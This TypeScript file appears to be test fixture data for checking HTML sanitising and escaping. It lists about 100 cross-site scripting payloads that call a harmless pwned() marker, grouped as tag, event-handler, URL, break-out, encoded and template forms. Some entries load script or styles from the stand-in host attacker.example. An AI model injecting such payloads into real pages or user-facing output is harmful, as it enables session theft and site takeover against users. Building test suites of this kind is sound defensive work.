const CALL = 'pwned()'

/**
 * Texts that would run as script where a page takes text for markup, for an address, for a style or for code. Each calls
 * `pwned()` in a way of its own; a page that shows texts as texts calls it never.
 */
export const XSS_PAYLOADS: readonly string[] = [
  ...markup(),
  ...attributes(),
  ...addresses(),
  ...brokenOut(),
  ...encoded(),
  ...templates(),
]

// Elements that run something by being there.
function markup(): readonly string[] {
  return [
    '<script>pwned()</script>',
    '<SCRIPT>pwned()</SCRIPT>',
    '<script/x>pwned()</script>',
    '<script\n>pwned()</script\n>',
    '<script type="module">pwned()</script>',
    '<script src="data:text/javascript,pwned()"></script>',
    '<script src="//attacker.example/x.js"></script>',
    '<scr<script>ipt>pwned()</scr</script>ipt>',
    '<svg><script>pwned()</script></svg>',
    '<svg><script href="data:,pwned()"/></svg>',
    '<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>',
    '<svg><set attributeName=onload to=pwned()></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>parent.pwned()</script>"></iframe></foreignObject></svg>',
    '<math><mtext><script>pwned()</script></mtext></math>',
    '<math href="javascript:pwned()">x</math>',
    '<iframe srcdoc="&lt;script&gt;parent.pwned()&lt;/script&gt;"></iframe>',
    '<iframe src="javascript:parent.pwned()"></iframe>',
    '<object data="javascript:pwned()"></object>',
    '<embed src="javascript:pwned()">',
    '<link rel="import" href="data:text/html,<script>pwned()</script>">',
    '<link rel="stylesheet" href="https://attacker.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:pwned()">',
    '<base href="https://attacker.example/">',
    '<template><script>pwned()</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
    '<style>@import "https://attacker.example/x.css";</style>',
    '<form action="javascript:pwned()"><button autofocus>x</button></form>',
    '<isindex type=image src=x onerror=pwned()>',
    '<plaintext><script>pwned()</script>',
    '<xmp><img src=x onerror=pwned()></xmp>',
  ]
}

// Elements that run something when an event of theirs comes.
function attributes(): readonly string[] {
  return [
    '<img src=x onerror=pwned()>',
    '<img src=x onerror="pwned()">',
    "<img src=x onerror='pwned()'>",
    '<img src=x onerror=`pwned()`>',
    '<img/src/onerror=pwned()>',
    '<img src=x oneRRor=pwned()>',
    '<img src=x onerror\n=\npwned()>',
    '<img srcset=x onerror=pwned()>',
    '<image src=x onerror=pwned()>',
    '<svg onload=pwned()>',
    '<svg/onload=pwned()>',
    '<body onload=pwned()>',
    '<body onpageshow=pwned()>',
    '<input autofocus onfocus=pwned()>',
    '<select autofocus onfocus=pwned()>',
    '<textarea autofocus onfocus=pwned()>',
    '<details open ontoggle=pwned()>',
    '<video><source onerror=pwned()></video>',
    '<video src=x onerror=pwned()></video>',
    '<audio src=x onerror=pwned()>',
    '<marquee onstart=pwned()>x</marquee>',
    '<p onmouseover=pwned()>x</p>',
    '<p style="animation-name:x" onanimationstart=pwned()>x</p>',
    '<div style="background:url(javascript:pwned())">x</div>',
    '<div style="width:expression(pwned())">x</div>',
    '<dialog open onclose=pwned()><form method=dialog><button autofocus></form></dialog>',
    '<button popovertarget=x autofocus>x</button><p popover id=x onbeforetoggle=pwned()>',
    '<object onerror=pwned() data=x>',
  ]
}

// Addresses that are code.
function addresses(): readonly string[] {
  return [
    'javascript:pwned()',
    'JaVaScRiPt:pwned()',
    ' javascript:pwned()',
    'java\tscript:pwned()',
    'java\nscript:pwned()',
    '\u0001javascript:pwned()',
    'javascript://%0apwned()',
    'data:text/html,<script>opener.pwned()</script>',
    'data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+',
    'vbscript:pwned()',
    '<a href="javascript:pwned()" autofocus>x</a>',
    '[x](javascript:pwned())',
    '![x](x"onerror="pwned())',
    '<https://attacker.example/"onmouseover="pwned()>',
    'https://attacker.example/?<script>pwned()</script>',
  ]
}

// Texts that end the place they are in.
function brokenOut(): readonly string[] {
  return [
    `"><script>${CALL}</script>`,
    `'><script>${CALL}</script>`,
    `\`><script>${CALL}</script>`,
    `</script><script>${CALL}</script>`,
    `</style><script>${CALL}</script>`,
    `</title><script>${CALL}</script>`,
    `</textarea><script>${CALL}</script>`,
    `--><script>${CALL}</script>`,
    `]]><script>${CALL}</script>`,
    `" autofocus onfocus=${CALL} x="`,
    `' autofocus onfocus=${CALL} x='`,
    `";${CALL};//`,
    `';${CALL};//`,
    `\\";${CALL};//`,
    `\u2028${CALL}\u2029`,
  ]
}

// The same under another spelling.
function encoded(): readonly string[] {
  return [
    '&lt;script&gt;pwned()&lt;/script&gt;',
    '&#60;script&#62;pwned()&#60;/script&#62;',
    '\\u003cscript\\u003epwned()\\u003c/script\\u003e',
    '%3Cscript%3Epwned()%3C/script%3E',
    '\uFF1Cscript\uFF1Epwned()\uFF1C/script\uFF1E',
    '<\u0000script>pwned()</script>',
    '<img src=x onerror=&#112;wned()>',
  ]
}

// Code for what fills texts in.
function templates(): readonly string[] {
  return [
    '${pwned()}',
    '{{constructor.constructor("pwned()")()}}',
    '<%= pwned() %>',
    '{"__html":"<img src=x onerror=pwned()>"}',
    '{"__proto__":{"innerHTML":"<img src=x onerror=pwned()>"}}',
  ]
}
